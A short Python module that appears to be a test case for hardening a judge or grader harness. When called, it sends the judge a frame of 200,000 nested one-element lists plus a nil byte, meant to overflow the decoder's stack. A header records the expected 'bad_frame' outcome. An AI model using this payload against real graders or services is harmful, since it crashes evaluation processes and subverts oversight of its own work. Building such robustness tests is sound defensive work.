# attack: answers with 200,000 lists inside each other, so that the judge's decoder or comparison overflows its stack
# group: c
# targets: text tensor trainer
# ends: bad_frame
# control: none: a grader of one process has no frames

import os
import struct
import time

LIST_OF_ONE = b"\x91"
NIL = b"\xc0"


def _send(data):
    """Write bytes to the channel on which the worker answers the judge."""
    while data:
        data = data[os.write(3, data) :]


def _frame(body):
    """Send one frame with this body."""
    _send(struct.pack(">I", len(body)) + body)


def attack(*args, **kwargs):
    _frame(LIST_OF_ONE * 200_000 + NIL)
    time.sleep(60)
